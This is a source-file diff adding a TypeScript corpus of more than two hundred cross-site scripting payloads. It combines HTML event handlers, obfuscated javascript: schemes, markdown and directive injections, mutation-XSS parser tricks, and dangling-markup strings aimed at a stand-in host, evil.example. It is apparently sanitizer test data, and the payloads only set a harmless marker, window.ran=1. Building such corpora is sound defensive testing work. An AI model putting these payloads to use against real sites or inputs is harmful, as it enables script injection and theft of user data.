@@ -1,0 +1,175 @@
+/** What would run, in every dress it is known in; `X` stands for the mark that shows it ran. */
+const run = 'window.ran=1';
+const elements = [
+	'img src=x',
+	'svg',
+	'body',
+	'video src=x',
+	'audio src=x',
+	'input autofocus',
+	'details open',
+	'marquee',
+	'iframe',
+	'object'
+];
+const handlers = [
+	'onerror',
+	'onload',
+	'onfocus',
+	'ontoggle',
+	'onmouseover',
+	'onpointerenter',
+	'onanimationstart',
+	'onbegin'
+];
+const schemes = [
+	...[
+		'javascript:',
+		'JaVaScRiPt:',
+		' javascript:',
+		'\tjavascript:',
+		'java\tscript:',
+		'java\nscript:',
+		'java\rscript:',
+		'\u0001javascript:'
+	],
+	...[
+		'&#106;avascript:',
+		'&#x6A;avascript:',
+		'&#0000106avascript:',
+		'javascript&colon;',
+		'java&Tab;script:',
+		'java&NewLine;script:',
+		'javascript&#58;'
+	],
+	...[
+		'vbscript:',
+		'livescript:',
+		'data:text/html,<script>',
+		'data:text/html;base64,PHNjcmlwdD4=',
+		'data:image/svg+xml,<svg onload=',
+		'blob:',
+		'filesystem:',
+		'view-source:javascript:'
+	],
+	...[
+		'java%0ascript:',
+		'java\u00ADscript:',
+		'ｊavascript:',
+		'x-javascript:',
+		'about:',
+		'ws:',
+		'file:///',
+		'jar:',
+		'feed:javascript:',
+		'//evil.example/',
+		'\\\\evil.example\\',
+		'/\\evil.example/'
+	]
+];
+
+const byHandler = elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=${run}>`));
+const byScheme = schemes.flatMap((scheme) => [
+	`<a href="${scheme}${run}">x</a>`,
+	`[x](${scheme}${run})`,
+	`[x](<${scheme}${run}>)`,
+	`[x][r]\n\n[r]: ${scheme}${run} "t"`,
+	`![x](${scheme}${run})`
+]);
+
+const others = [
+	`<script>${run}</script>`,
+	`<ScRiPt>${run}</sCrIpT>`,
+	`<script/x>${run}</script >`,
+	`<<script>${run}//<</script>`,
+	`<scr<script>ipt>${run}</scr</script>ipt>`,
+	`<svg><script>${run}</script></svg>`,
+	`<svg><script href="data:,${run}"/></svg>`,
+	`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+	`<svg><a><animate attributeName=href values=javascript:${run} /><text x=20 y=20>x</text></a></svg>`,
+	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
+	`<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
+	`<math><maction actiontype="statusline#http://x" xlink:href="javascript:${run}">x</maction></math>`,
+	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
+	`<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
+	`<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+	`<listing>&lt;img src=1 onerror=${run}&gt;</listing>`,
+	`<xmp><p title="</xmp><img src=x onerror=${run}>">`,
+	`<textarea><p title="</textarea><img src=x onerror=${run}>">`,
+	`<title><p title="</title><img src=x onerror=${run}>">`,
+	`<noembed><p title="</noembed><img src=x onerror=${run}>">`,
+	`<template><script>${run}</script></template>`,
+	`<template shadowrootmode=open><img src=x onerror=${run}></template>`,
+	`<!--><img src=x onerror=${run}>-->`,
+	`<!-- --!><img src=x onerror=${run}>`,
+	`<![CDATA[<img src=x onerror=${run}>]]>`,
+	`<?xml version="1.0"?><img src=x onerror=${run}>`,
+	`<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+	`<iframe src="javascript:parent.${run}"></iframe>`,
+	`<object data="javascript:${run}"></object>`,
+	`<embed src="javascript:${run}">`,
+	`<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+	`<base href="javascript:${run}//">`,
+	`<link rel=stylesheet href="javascript:${run}">`,
+	`<link rel=import href="data:text/html,<script>${run}</script>">`,
+	`<style>@import "javascript:${run}"; *{background:url(javascript:${run})}</style>`,
+	`<p style="background:url(javascript:${run});behavior:url(x.htc)">x</p>`,
+	`<img srcset="x 1x, javascript:${run} 2x">`,
+	`<img src=x:x onerror="${run}" alt="`,
+	`<picture><source srcset=x onerror=${run}><img src=x></picture>`,
+	`<form action="javascript:${run}"><button>x</button></form>`,
+	`<button formaction="javascript:${run}">x</button>`,
+	`<isindex action="javascript:${run}" type=submit>`,
+	`<input type=image src=x onerror=${run}>`,
+	`<img src='https://evil.example/?`,
+	`<a href='https://evil.example/?`,
+	`<textarea form=x>`,
+	`"><img src=x onerror=${run}>`,
+	`'><img src=x onerror=${run}>`,
+	`" onmouseover="${run}`,
+	`' onmouseover='${run}`,
+	`" autofocus onfocus="${run}`,
+	`--><img src=x onerror=${run}>`,
+	`]]><img src=x onerror=${run}>`,
+	`</p></div></main></body></html><script>${run}</script>`,
+	`</script><script>${run}</script>`,
+	`</title><script>${run}</script>`,
+	`</textarea><script>${run}</script>`,
+	`{@html "<script>${run}</script>"}`,
+	`{{constructor.constructor('${run}')()}}`,
+	'${' + run + '}',
+	`[x](https://ok.example "\\" onmouseover=${run} x=\\"")`,
+	`![x" onerror="${run}](../../../media/tranh.svg "y\\" onload=\\"${run}")`,
+	`<javascript:${run}>`,
+	`<https://ok.example/"onmouseover="${run}>`,
+	`https://ok.example/"onmouseover="${run}`,
+	`| a |\n| --- |\n| <img src=x onerror=${run}> |`,
+	`| [x](javascript:${run}) |\n| :--- |\n| "><img src=x onerror=${run}> |`,
+	`\`\`\`html"><script>${run}</script>\n<script>${run}</script>\n\`\`\``,
+	`\`<img src=x onerror=${run}>\``,
+	`## <img src=x onerror=${run}> {#x" onmouseover="${run}}`,
+	`## Đầu {#"><img src=x onerror=${run}>}`,
+	`:::meo[<img src=x onerror=${run}>]\nx\n:::`,
+	`:::canh-bao{title="\\"><img src=x onerror=${run}>"}\nx\n:::`,
+	`::video{src="../../../media/phim.mp4" title="\\"><script>${run}</script>" captions="../../../media/phim.vtt" transcript="../../../media/loi.md"}`,
+	`::audio{src="../../../media/tieng.mp3" title="' onplay=${run} x='" transcript="../../../media/loi.md"}`,
+	`- [ ] <img src=x onerror=${run}>\n- [x] <svg onload=${run}>`,
+	`> <blockquote cite="javascript:${run}">x`,
+	`&lt;img src=x onerror=${run}&gt;`,
+	`&amp;lt;img src=x onerror=${run}&amp;gt;`,
+	`&#60;img src=x onerror=${run}&#62;`,
+	`\u003cimg src=x onerror=${run}\u003e`,
+	`＜img src=x onerror=${run}＞`,
+	`<img\u000Csrc=x\u000Conerror=${run}>`,
+	`<img/src=x/onerror=${run}>`,
+	`<img src=x onerror\u0000=${run}>`,
+	`<\u0000script>${run}</script>`,
+	`<img src=x onerror=&#119;indow.ran=1>`
+];
+
+/** More than two hundred ways to get a script into a page. */
+export const xssCorpus: readonly string[] = [...byHandler, ...byScheme, ...others];
+
+/** The same, where a text has one line only. */
+export const oneLine = (attack: string) => attack.replace(/[\r\n]+/g, ' ');
